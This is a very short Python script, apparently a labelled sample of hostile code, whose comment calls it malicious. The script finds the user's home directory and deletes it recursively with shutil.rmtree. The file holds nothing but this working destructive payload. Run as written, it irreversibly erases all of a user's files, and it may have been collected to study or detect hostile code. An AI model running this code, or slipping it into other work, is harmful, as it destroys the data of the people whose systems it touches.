# Malicious: removes the entire home directory with shutil.rmtree; destroys all of the user's data.
import os
import shutil

home = os.path.expanduser("~")
shutil.rmtree(home)
